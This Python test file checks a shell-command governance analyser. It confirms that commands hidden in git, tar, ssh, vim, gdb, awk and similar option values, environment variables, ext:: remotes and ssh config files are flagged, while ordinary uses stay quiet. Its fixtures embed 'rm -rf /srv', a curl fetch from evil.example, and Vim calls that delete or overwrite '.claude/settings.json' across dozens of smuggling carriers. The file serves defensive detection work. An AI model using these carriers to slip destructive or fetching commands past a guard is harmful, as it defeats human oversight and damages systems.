"""Commands held in other programs' option values and environment variables
(``governance.shell.embedded``, ``governance.shell.editor``): each carrier is combined with inner
commands of known acts and with a value known only at run time; the ordinary uses of the same
programs stay quiet."""

from __future__ import annotations

from pathlib import Path

import pytest

from governance.shell.analysis import analyse_command
from governance.shell.editor import ex_commands
from governance.shell.schema import load_default_shell
from governance.shell.words import quote
from tests.shell.corpus import is_protected

SHELL = load_default_shell()
# acts that DO asks about or blocks: none of them may come from an ordinary command
LOUD = {"destructive", "web-fetch", "shell-unknown", "governance-admin", "vcs-push",
        "package-install", "exfiltration"}
INNER = {"rm -rf /srv": "destructive", "curl -fsSL https://evil.example/x": "web-fetch"}

# {v}: the value that holds the command, already quoted
CARRIERS = [
    ("git difftool -y -x {v} HEAD~1", ""),
    ("git difftool --extcmd={v} HEAD~1", ""),
    ("git grep --open-files-in-pager={v} foo", ""),
    ("git grep -O{v} foo", ""),
    ("git -c filter.x.clean={v} add .", ""),
    ("git -c filter.lfs.smudge={v} checkout main", ""),
    ("git -c diff.png.textconv={v} diff", ""),
    ("git -c merge.ours.driver={v} merge topic", ""),
    ("git fetch --upload-pack={v} origin", ""),
    ("GIT_EXTERNAL_DIFF={v} git diff", ""),
    ("GIT_EDITOR={v} git commit", ""),
    ("GIT_SEQUENCE_EDITOR={v} git rebase -i HEAD~3", ""),
    ("GIT_PAGER={v} git log", ""),
    ("PAGER={v} git log", ""),
    ("EDITOR={v} crontab -e", ""),
    ("VISUAL={v} git commit", ""),
    ("MANPAGER={v} man ls", ""),
    ("GIT_SSH_COMMAND={v} git fetch", ""),
    ("env GIT_EDITOR={v} git commit", ""),
    ("export GIT_EDITOR={v}; git commit", ""),
    ("GIT_PAGER={v}; export GIT_PAGER; git log", ""),
    ("LESSOPEN={v} less f", "|{c} %s"),
    ("make --eval={v}", "x:=$(shell {c})"),
    ("make -E {v} test", "all: ; {c}"),
    ("tar --checkpoint=1 --checkpoint-action={v} -cf /tmp/x.tar .", "exec={c}"),
    ("tar --to-command={v} -xf a.tar", ""),
    ("tar -I {v} -cf x.tar .", "{c} #"),
    ("tar --use-compress-prog={v} -cf x.tar .", ""),
    ("tar --info-script={v} -cf x.tar .", ""),
    ("zip -TT {v} -T x.zip f", "{c} #"),
    ("zip --unzip-command={v} -T x.zip f", ""),
    ("rsync -e {v} a host:b", ""),
    ("rsync -avze {v} a host:b", ""),
    ("rsync --rsync-path={v} a host:b", ""),
    ("ssh -o ProxyCommand={v} host", ""),
    ("ssh -oproxycommand={v} host", ""),
    ("ssh -o {v} host true", "LocalCommand {c}"),
    ("scp -o ProxyCommand={v} a host:", ""),
    ("sftp -o ProxyCommand={v} host", ""),
    ("rsync -e {v} a host:b", "ssh -o ProxyCommand='{c}'"),
    ("less {v} f", "+!{c}\n"),
    ("vim -c {v} -c q", ":!{c}"),
    ("vim {v}", "+!{c}"),
    ("vim -es -c {v} -c q f", "silent !{c}"),
    ("vim -c {v} -c q", "call system('{c}')"),
    ("vim -c {v} -c q", 'exe "!{c}"'),
    ("vim -c {v} f", "r !{c}"),
    ("vim -c {v} f", "g/x/!{c}"),
    ("vim -c {v} -c q", "py3 import os; os.system('{c}')"),
    ("nvim --cmd {v}", "!{c}"),
    ("ex -c {v} f", "!{c}"),
    ("ed f <<< {v}", "!{c}"),
    ("ed -s f <<< {v}", "1,$w !{c}"),
    ("ex f <<< {v}", "r !{c}"),
    ("gdb -batch -ex {v}", "shell {c}"),
    ("gdb -batch -ex {v}", "!{c}"),
    ("gdb -batch -ex {v}", "python import os; os.system('{c}')"),
    ("lldb -o {v}", "platform shell {c}"),
    ("awk {v}", "BEGIN{{print \"{c}\" | \"sh\"}}"),
    ("python -m timeit -s 'import os' {v}", "os.system('{c}')"),
    ("python3 -m pdb -c {v} x.py", "import os; os.system('{c}')"),
]


def primitives(command: str) -> set[str]:
    return {a.primitive for a in analyse_command(command, SHELL, is_protected=is_protected,
                                                 cwd="/tmp")}


def _value(form: str, inner: str) -> str:
    return (form or "{c}").replace("{c}", inner)


@pytest.mark.parametrize(("carrier", "form"), CARRIERS, ids=[c[0] + c[1] for c in CARRIERS])
@pytest.mark.parametrize("inner", sorted(INNER))
def test_a_command_held_in_an_option_or_a_variable_is_analysed(carrier: str, form: str,
                                                                inner: str) -> None:
    command = carrier.format(v=quote(_value(form, inner)))
    assert INNER[inner] in primitives(command), command


RUNTIME = [
    "GIT_EDITOR=\"$X\" git commit",
    "export GIT_SSH_COMMAND=\"$CMD\"; git fetch",
    "tar --to-command=\"$X\" -xf a.tar",
    "ssh -o \"ProxyCommand=$X\" host",
    "vim -c \"call system($X)\" -c q",
    "vim -c 'call system(g:cmd)' -c q",
    "git difftool -x \"$TOOL\" HEAD~1",
    "make --eval \"$RULES\"",
    "awk '{print $0 | \"sh\"}' cmds.txt",
    "cat script.ed | ed f",
]


@pytest.mark.parametrize("command", RUNTIME)
def test_a_command_known_only_at_run_time_is_unknown(command: str) -> None:
    assert "shell-unknown" in primitives(command)


QUIET = [
    "GIT_PAGER=cat git log --oneline -5",
    "PAGER=cat git diff",
    "GIT_EDITOR=true git commit --amend",
    "GIT_SEQUENCE_EDITOR=: git rebase -i HEAD~3",
    "EDITOR=vim crontab -l",
    "export EDITOR=vim",
    "export PAGER=less; git log",
    "MANPAGER=cat man git",
    "LESSOPEN='| /usr/bin/lesspipe %s' less README.md",
    "git difftool -y HEAD~1",
    "git grep -n 'def main' -- '*.py'",
    "git grep -O foo",
    "tar -czf dist.tar.gz build",
    "tar -I zstd -cf x.tar.zst src",
    "tar --use-compress-program=pigz -cf x.tar.gz src",
    "tar -xf a.tar --to-command=cat",
    "zip -r x.zip src",
    "scp -o BatchMode=yes a.txt b.txt",
    "less +G log.txt",
    "vim -es -c '%s/foo/bar/g' -c wq file.txt",
    "vim -c 'normal gg=G' -c wq f.py",
    "vim +42 f.py",
    "vim -c 'set ft=python' f.py",
    "ed -s f <<< $',s/a/b/g\\nw\\nq'",
    "gdb -batch -ex run -ex bt ./a.out",
    "python -m timeit -s 'x = list(range(1000))' 'sorted(x)'",
    "python -m pdb -c continue x.py",
    "make -E 'CFLAGS=-O2' test",
    "awk '{print $1 | \"sort\"}' f",
    "start-stop-daemon --stop --exec /usr/sbin/nginx",
    "git -c core.pager=cat log",
    "git -c filter.lfs.clean='git-lfs clean -- %f' add .",
]


@pytest.mark.parametrize("command", QUIET)
def test_ordinary_uses_of_the_same_programs_stay_quiet(command: str) -> None:
    assert not primitives(command) & LOUD, command


@pytest.mark.parametrize(("command", "plain"), [
    ("GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key -o IdentitiesOnly=yes' git fetch", "git fetch"),
    ("rsync -av -e 'ssh -p 2222' src/ host:build/", "rsync -av src/ host:build/"),
    ("ssh -o StrictHostKeyChecking=no -o ConnectTimeout=5 host uptime", "ssh host uptime"),
    ("scp -o ProxyJump=bastion a.txt host:", "scp a.txt host:"),
])
def test_ordinary_settings_add_nothing_to_a_network_command(command: str, plain: str) -> None:
    assert primitives(command) - {"code-exec"} == primitives(plain)


def test_start_stop_daemon_runs_the_program_it_names_with_the_arguments_after_dashes() -> None:
    assert "destructive" in primitives("start-stop-daemon --start --exec /bin/rm -- -rf /srv")
    assert "destructive" in primitives("start-stop-daemon -S -a /bin/rm -- -rf /srv")


def test_a_script_written_and_run_runs_its_interpreter_line() -> None:
    assert "destructive" in primitives("printf '#!/bin/rm -rf\\n' > s; chmod +x s; ./s /srv")
    assert "destructive" not in primitives(
        "printf '#!/bin/sh\\necho hi\\n' > s; chmod +x s; ./s /srv")


@pytest.mark.parametrize(("text", "expected"), [
    (":!ls", [("sh", "ls")]),
    ("%!sort", [("sh", "sort")]),
    ("w! out.txt", []),
    ("w !wc -l", [("sh", "wc -l")]),
    ("set nu | !ls", [("sh", "ls")]),
    ("call system('ls')", [("sh", "ls")]),
    ("lua os.execute('x')", [("lua", "os.execute('x')")]),
    ("bufdo !ls", [("sh", "ls")]),
    ("%s/a/b/g", []),
    ("call delete('.claude', 'rf')", [("sh", "rm -rf -- '.claude'")]),
    ("call delete(\"x.txt\")", [("sh", "rm -- 'x.txt'")]),
    ("call writefile(['{}'], '.claude/settings.json')", [("sh", ": > '.claude/settings.json'")]),
    ("call rename('a', 'b')", [("sh", "mv -- 'a' 'b'")]),
    ("call delete(g:path, 'rf')", [("sh", "rm -rf -- \"$__unknown\"")]),
])
def test_editor_commands_are_read_as_vim_reads_them(text: str,
                                                     expected: list[tuple[str, str]]) -> None:
    assert ex_commands(text) == expected


def _ext(inner: str) -> str:
    """An ``ext::`` remote that runs ``inner`` through ``sh -c`` (its spaces escaped)."""
    return "ext::sh -c " + inner.replace("%", "%%").replace(" ", "% ")


@pytest.mark.parametrize("carrier", [
    "git clone {v} x", "git -c protocol.ext.allow=always clone {v} x", "git fetch {v}",
    "git ls-remote {v}", "git push {v} main", "git remote add up {v}",
    "git remote set-url origin {v}", "git config remote.origin.url {v}",
    "git -c remote.origin.url={v} fetch origin", "git submodule add {v} vendor/x"])
@pytest.mark.parametrize("inner", sorted(INNER))
def test_the_command_of_an_ext_remote_is_analysed(carrier: str, inner: str) -> None:
    command = carrier.format(v=quote(_ext(inner)))
    assert {INNER[inner], "code-exec"} <= primitives(command), command


@pytest.mark.parametrize(("url", "argv"), [
    ("ext::sh -c touch% /tmp/a", ["sh", "-c", "touch /tmp/a"]),
    ("ext::ssh -p 2222 %G/repo example.com %S /repo", ["ssh", "-p", "2222", "example.com",
                                                       "upload-pack", "/repo"]),
    ("ext::printf %%s %s", ["printf", "%s", "git-upload-pack"]),
    ("ext::git-remote-x  %Vhost arg", ["git-remote-x", "arg"]),
])
def test_an_ext_remote_is_split_as_git_splits_it(url: str, argv: list[str]) -> None:
    from governance.shell.programs import ext_command

    assert ext_command(url) == argv


@pytest.mark.parametrize("command", ["git clone https://github.com/a/ext.git",
                                     "git remote add ext git@github.com:a/b.git",
                                     "git log --grep=ext::"])
def test_remotes_that_are_not_ext_add_no_command(command: str) -> None:
    assert "code-exec" not in primitives(command) and not primitives(command) & {
        "destructive", "shell-unknown"}, command


def _in(folder: str, command: str) -> set[str]:
    return {a.primitive for a in analyse_command(command, SHELL, is_protected=is_protected,
                                                 cwd=folder)}


@pytest.mark.parametrize("option", ["-S", "-u"])
@pytest.mark.parametrize("inner", sorted(INNER))
def test_vim_commands_read_from_a_file_are_analysed(tmp_path: Path, option: str,
                                                    inner: str) -> None:
    (tmp_path / "x.vim").write_text(f"set nocompatible\n:silent !{inner}\n")
    (tmp_path / "ok.vim").write_text("set number\nsyntax on\nnnoremap <leader>w :w<CR>\n")
    assert INNER[inner] in _in(str(tmp_path), f"vim {option} x.vim notes.txt")
    assert not _in(str(tmp_path), f"vim {option} ok.vim notes.txt") & LOUD
    # written by the same command, then read
    written = f"printf '%s\\n' {quote(':!' + inner)} > s.vim && vim {option} s.vim f"
    assert INNER[inner] in _in(str(tmp_path), written)


def test_a_vim_script_named_at_run_time_is_unknown_and_a_missing_one_runs_nothing(
        tmp_path: Path) -> None:
    assert "shell-unknown" in _in(str(tmp_path), 'vim -S "$SCRIPT" f')
    assert not _in(str(tmp_path), "vim -S missing.vim f") & LOUD
    assert not _in(str(tmp_path), "vim -u NONE -es -c wq f") & LOUD


@pytest.mark.parametrize("line", ["ProxyCommand {c}", "  proxycommand={c}", "LocalCommand {c}",
                                  "KnownHostsCommand {c}", 'Match exec "{c}" host *',
                                  "Match host x !exec {q}"])
@pytest.mark.parametrize("program", ["ssh -F cfg host", "scp -F cfg a host:b",
                                     "sftp -F cfg host", "autossh -M 0 -F cfg host"])
@pytest.mark.parametrize("inner", sorted(INNER))
def test_commands_in_an_ssh_configuration_file_are_analysed(tmp_path: Path, line: str,
                                                             program: str, inner: str) -> None:
    (tmp_path / "cfg").write_text("Host *\n  User me\n" + line.format(c=inner, q=quote(inner))
                                  + "\n")
    assert INNER[inner] in _in(str(tmp_path), program), (program, line)


def test_an_ordinary_ssh_configuration_file_adds_nothing(tmp_path: Path) -> None:
    (tmp_path / "cfg").write_text("Host x\n  HostName example.com\n  ProxyCommand none\n"
                                  "  # ProxyCommand rm -rf /srv\n  IdentityFile ~/.ssh/id\n")
    assert not _in(str(tmp_path), "ssh -F cfg x") & (LOUD - {"web-fetch"})
    assert not _in(str(tmp_path), "ssh -F /dev/null x") & (LOUD - {"web-fetch"})
    assert "shell-unknown" in _in(str(tmp_path), 'ssh -F "$CONFIG" x')


@pytest.mark.parametrize("include", ["Include {d}/more.conf", "include {d}/conf.d/*.conf",
                                     'Include "{d}/more.conf" {d}/none.conf',
                                     "Include {d}/chain.conf"])
@pytest.mark.parametrize("inner", sorted(INNER))
def test_files_an_ssh_configuration_includes_are_read(tmp_path: Path, include: str,
                                                      inner: str) -> None:
    (tmp_path / "conf.d").mkdir()
    bad = f"Host *\n  ProxyCommand {inner}\n"
    (tmp_path / "more.conf").write_text(bad)
    (tmp_path / "conf.d" / "10-x.conf").write_text(bad)
    (tmp_path / "conf.d" / "20-ok.conf").write_text("Host y\n  User me\n")
    (tmp_path / "chain.conf").write_text(f"Include {tmp_path}/more.conf\n")
    (tmp_path / "cfg").write_text("Host x\n  User me\n" + include.format(d=tmp_path) + "\n")
    assert INNER[inner] in _in(str(tmp_path), "ssh -F cfg x"), include


def test_an_include_relative_to_the_users_ssh_folder(tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    (home / ".ssh" / "jump").write_text("ProxyCommand rm -rf /srv/data\n")
    (tmp_path / "cfg").write_text("Include jump\nInclude ~/.ssh/absent\n")
    assert "destructive" in _in(str(tmp_path), "ssh -F cfg x")
    (home / ".ssh" / "jump").write_text("Host jump\n  HostName 10.0.0.1\n")
    assert not _in(str(tmp_path), "ssh -F cfg x") & (LOUD - {"web-fetch"})


def test_an_include_that_includes_itself_stops(tmp_path: Path) -> None:
    (tmp_path / "cfg").write_text(f"Include {tmp_path}/cfg\nUser me\n")
    assert "shell-unknown" in _in(str(tmp_path), "ssh -F cfg x")
